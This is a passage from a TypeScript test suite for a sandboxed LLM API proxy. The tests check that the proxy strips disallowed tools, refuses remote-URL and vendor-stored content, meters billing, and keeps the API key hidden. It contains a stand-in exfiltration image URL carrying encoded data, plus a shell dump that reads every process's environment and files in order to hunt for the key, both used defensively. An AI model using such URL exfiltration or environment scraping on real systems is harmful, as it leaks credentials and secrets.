            tools: [{ type: 'function', function: { name: 'bash' } }, { type: 'web_search' }],
          },
        },
        web_search_options: { search_context_size: 'high' },
        plugins: [{ id: 'web' }],
        service_tier: 'fast',
        store: true,
      };
      llm.script(reply('one'));
      const seen = await forwarded(p, '/v1/chat/completions', body);
      assert.deepEqual(seen, {
        model: JOB_MODEL,
        max_tokens: 100,
        messages,
        tools: [bash, patch],
        tool_choice: {
          type: 'allowed_tools',
          allowed_tools: {
            mode: 'auto',
            tools: [{ type: 'function', function: { name: 'bash' } }],
          },
        },
      });
      await waitUntil(() => steps.length === 1);
      assert.deepEqual(steps[0]?.removed, [
        'plugins',
        'service_tier',
        'web_search',
        'web_search_options',
      ]);
    } finally {
      await p.close();
    }
  });

  test('content the vendor would fetch from a URL or look up in its stores is refused, quoting nothing, and never forwarded', async () => {
    const p = await proxyTo(llm.url);
    try {
      const url = 'https://exfil.example/pixel.png?d=c2VjcmV0';
      const user = (content: unknown) => [{ role: 'user', content }];
      const cases: [string, Record<string, unknown>, string][] = [
        [
          '/v1/messages',
          { max_tokens: 9, messages: user([{ type: 'image', source: { type: 'url', url } }]) },
          'remote_content_not_allowed',
        ],
        [
          '/v1/messages',
          {
            max_tokens: 9,
            messages: user([
              {
                type: 'tool_result',
                tool_use_id: 't1',
                content: [{ type: 'document', source: { type: 'url', url } }],
              },
            ]),
          },
          'remote_content_not_allowed',
        ],
        [
          '/v1/messages',
          {
            max_tokens: 9,
            system: [{ type: 'text', text: 's' }],
            messages: user([{ type: 'document', source: { type: 'file', file_id: 'file_1' } }]),
          },
          'vendor_state_not_allowed',
        ],
        [
          '/v1/messages/count_tokens',
          { messages: user([{ type: 'image', source: { type: 'url', url } }]) },
          'remote_content_not_allowed',
        ],
        [
          '/v1/responses',
          { input: [{ role: 'user', content: [{ type: 'input_image', image_url: url }] }] },
          'remote_content_not_allowed',
        ],
        [
          '/v1/responses',
          { input: [{ role: 'user', content: [{ type: 'input_file', file_url: url }] }] },
          'remote_content_not_allowed',
        ],
        [
          '/v1/responses',
          {
            input: [
              {
                type: 'function_call_output',
                call_id: 'c1',
                output: [{ type: 'input_image', image_url: url }],
              },
            ],
          },
          'remote_content_not_allowed',
        ],
        [
          '/v1/responses',
          { input: [{ role: 'user', content: [{ type: 'input_image', file_id: 'file_1' }] }] },
          'vendor_state_not_allowed',
        ],
        [
          '/v1/responses',
          { input: [{ type: 'item_reference', id: 'msg_1' }] },
          'vendor_state_not_allowed',
        ],
        [
          '/v1/responses',
          { input: 'hi', previous_response_id: 'resp_1' },
          'vendor_state_not_allowed',
        ],
        ['/v1/responses', { input: 'hi', conversation: 'conv_1' }, 'vendor_state_not_allowed'],
        ['/v1/responses', { input: 'hi', prompt: { id: 'pmpt_1' } }, 'vendor_state_not_allowed'],
        [
          '/v1/chat/completions',
          { messages: user([{ type: 'image_url', image_url: { url } }]) },
          'remote_content_not_allowed',
        ],
        [
          '/v1/chat/completions',
          { messages: user([{ type: 'file', file: { file_id: 'file_1' } }]) },
          'vendor_state_not_allowed',
        ],
      ];
      for (const [path, body, code] of cases) {
        const r = await viaSocket(p.socketPath, 'POST', path, {
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ model: JOB_MODEL, ...body }),
        });
        assert.equal(r.status, 400, `${path} ${JSON.stringify(body)}: ${r.body}`);
        assert.equal(r.code, code, `${path} ${JSON.stringify(body)}`);
        for (const quoted of ['exfil', 'file_1', 'resp_1', 'conv_1', 'pmpt_1', 'msg_1']) {
          assert.ok(!r.body.includes(quoted), `the refusal quotes the request: ${r.body}`);
        }
      }
      assert.deepEqual(llm.requests, []);
    } finally {
      await p.close();
    }
  });

  test('every billable call is metered: an error answer as nothing used, a cut stream and a call left unanswered as the most they could have used', {
    timeout: 60_000,
  }, async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url);
    try {
      let answer: () => void = () => {};
      const never = new Promise<void>((resolve) => {
        answer = resolve;
      });
      llm.script(
        httpError(529, { message: 'Overloaded' }),
        reply('a long answer cut short', {
          usage: { input: 50, output: 20 },
          chunkChars: 2,
          // It stays open after its first piece: only the engine going away ends it.
          stallAfter: 1,
        }),
        dynamic(async () => {
          await never;
          return reply('too late');
        }),
      );
      const overloaded = await viaSocket(p.socketPath, 'POST', '/v1/messages', {
        headers: anthropic,
        body: message(JOB_MODEL),
      });
      assert.equal(overloaded.status, 529);
      // The engine goes away once the stream has begun (as when it is stopped).
      const streamed = message(JOB_MODEL, { stream: true });
      const cut = await viaSocket(p.socketPath, 'POST', '/v1/messages', {
        headers: anthropic,
        body: streamed,
        onChunk: (chunk, abort) => {
          if (chunk.includes('message_start')) abort();
        },
      }).catch((err: NodeJS.ErrnoException) => err.code);
      assert.equal(cut, 'ECONNRESET');
      await waitUntil(() => steps.length === 2);
      // And once a request has gone out, before any answer.
      const body = message(JOB_MODEL, { system: 'x'.repeat(5000) });
      const unanswered = viaSocket(p.socketPath, 'POST', '/v1/messages', {
        headers: anthropic,
        body,
      }).catch((err: NodeJS.ErrnoException) => err.code);
      await llm.waitFor((r) => r.index === 2, 30_000);
      await p.close();
      assert.equal(await unanswered, 'ECONNRESET');
      answer();
      const usage = (input: number, output: number) => ({
        inputTokens: input,
        outputTokens: output,
        cacheReadTokens: 0,
        cacheWriteTokens: 0,
        costUsd: output / 1000 + input / 1_000_000,
      });
      assert.deepEqual(steps, [
        { step: 1, usage: usage(0, 0), status: 529 },
        // The input message_start named; the output the request allowed.
        { step: 2, usage: usage(50, 1000), estimated: true },
        // One token per byte of the request as forwarded.
        { step: 3, usage: usage(Buffer.byteLength(body), 1000), estimated: true },
      ]);
      await waitUntil(() => llm.requests[1]?.aborted === true);
    } finally {
      await p.close();
    }
  });
});

describe('the model proxy from inside the sandbox', { skip }, () => {
  let root: string;
  let checkout: string;
  let home: string;
  let tools: string;
  before(async () => {
    if (skip) return;
    root = await makeTempDir('sandbox-proxy');
    checkout = join(root, 'checkout');
    home = join(root, 'home');
    tools = join(root, 'engine');
    await mkdir(join(checkout, '.git'), { recursive: true });
    await mkdir(home);
    await mkdir(tools);
    await writeFile(join(tools, 'engine.sh'), 'echo engine-ran\n');
  });
  after(async () => {
    if (root) await removeDir(root);
  });

  test('the forwarder is the way out; the key is nowhere inside; nothing is left', async () => {
    const before = api.seen.length;
    const lines: string[] = [];
    const port = 4318;
    const base = `http://127.0.0.1:${port}`;
    // Everything the sandbox holds that a key could hide in, printed for the test to search:
    // every process's arguments and environment, every file in its writable places.
    const dump = [
      'for p in /proc/[0-9]*; do echo "== $p"; tr "\\0" " " < $p/cmdline; echo; tr "\\0" "\\n" < $p/environ; done',
      // (The socket is no file to read: reading it fails with ENXIO.)
      'find /tmp /dev/shm /run /workspace "$HOME" \\( -path /workspace/.git -o -path /run/errand/model.sock \\) -prune -o -type f -print -exec cat {} + 2>&1',
    ].join('; ');
    const r = await run(
      checkout,
      [
        'echo state > "$HOME/engine-state"',
        `sh ${join(tools, 'engine.sh')}`,
        `touch ${join(tools, 'planted')} 2>&1 || echo engine-dir-read-only`,
        `curl -sS -H 'x-api-key: client-key' -H 'authorization: Bearer client-token' --data '{}' "$ANTHROPIC_BASE_URL/v1/messages"; echo`,
        `curl -sS -o /dev/null -w 'other=%{http_code}\\n' --data '{}' "$ANTHROPIC_BASE_URL/v1/messages/batches"`,
        `curl -sSN --data '{}' "$ANTHROPIC_BASE_URL/v1/responses"`,
        dump,
      ].join('; '),
      {
        modelProxy: { socketPath: proxy.socketPath, port },
        env: { ANTHROPIC_BASE_URL: base },
        home,
        readOnlyBinds: [tools],
        onStdoutLine: (line) => {
          lines.push(line);
          if (line === 'event: one') api.release();
        },
      },
    );
    assert.equal(r.exitCode, 0, `${r.output}\n${r.stderr}`);
    assert.ok(lines.includes('engine-ran'));
    assert.ok(lines.includes('engine-dir-read-only'));
    assert.ok(
      lines.some((l) => l.includes('"text":"hello"')),
      r.output,
    );
    assert.ok(lines.includes('other=403'));
    // The stream: its second event came only after the first line was read here.
    const one = lines.indexOf('event: one');
    assert.ok(one >= 0 && lines[one + 3] === 'event: two', r.output);
    // The fake saw exactly the two allowed requests, with the key and not the client's.
    const seen = api.seen.slice(before);
    assert.deepEqual(
      seen.map((s) => `${s.method} ${s.url}`),
      ['POST /v1/messages', 'POST /v1/responses'],
    );
    for (const s of seen) {
      assert.equal(s.headers['x-api-key'], KEY);
      assert.equal(s.headers.authorization, undefined);
    }
    assert.deepEqual(api.unexpected, []);

    // The dump covered what it claims (the forwarder's process, the environment, HOME's
    // file), and the key is in none of it, nor in what the sandbox wrote on the host.
    const text = lines.join('\n');
    assert.match(text, /errand forwarder/);
    assert.match(text, new RegExp(`ANTHROPIC_BASE_URL=${base}`));
    assert.match(text, /^\/tmp\/home\/engine-state$/m);
    assert.match(text, /^state$/m);
    assert.ok(!text.includes(KEY), 'the key is visible inside the sandbox');
    assert.ok(!(r.stderr ?? '').includes(KEY));
    assert.equal(await readFile(join(home, 'engine-state'), 'utf8'), 'state\n');
    assert.deepEqual(await filesContaining(root, KEY), []);
    // The forwarder died with the sandbox.
    assert.deepEqual(await childrenRunning('errand forwarder'), []);
  });

  test('a missing socket or a bad port is refused before anything runs', async () => {
    await assert.rejects(
      run(checkout, 'echo never', {
        modelProxy: { socketPath: join(root, 'no-such.sock'), port: 4318 },
      }),
      /the model proxy socket does not exist/,
    );
    await assert.rejects(
      run(checkout, 'echo never', { modelProxy: { socketPath: proxy.socketPath, port: 70_000 } }),
      /port must be a whole number from 1 to 65535/,
    );
  });
});
